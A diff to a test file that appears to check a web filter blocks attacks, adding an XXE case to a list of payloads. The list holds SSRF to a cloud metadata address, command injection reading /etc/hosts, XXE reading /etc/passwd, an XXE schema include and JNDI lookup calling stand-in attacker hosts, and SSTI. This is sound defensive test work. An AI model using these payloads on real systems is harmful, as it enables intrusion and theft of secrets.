@@ -33,6 +33,7 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     ["ssrf", send("POST", "/webhooks", json, ['{"url":"http://169.254.169.254/latest/meta-data/"}'])],
     ["cmdi", send("POST", "/ping", [["content-type", "application/x-www-form-urlencoded"]], ["host=8.8.8.8%3B%20cat%20%2Fetc%2Fhosts"])],
     ["xxe", send("POST", "/import", [["content-type", "application/xml"]], ['<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'])],
+    ["xxe", send("POST", "/import", [["content-type", "application/xml"]], ['<?xml version="1.0"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include namespace="http://x7f.attacker.example/"/></xs:schema>'])],
     ["ssti", send("POST", "/render", json, ['{"template":"{{7*7}}"}'])],
     // In names, not values: JSON keys, query and form names (a bare name with no '=' too).
     ["jndi", send("POST", "/profile", json, ['{"user":{"${jndi:ldap://evil.example/a}":1}}'])],
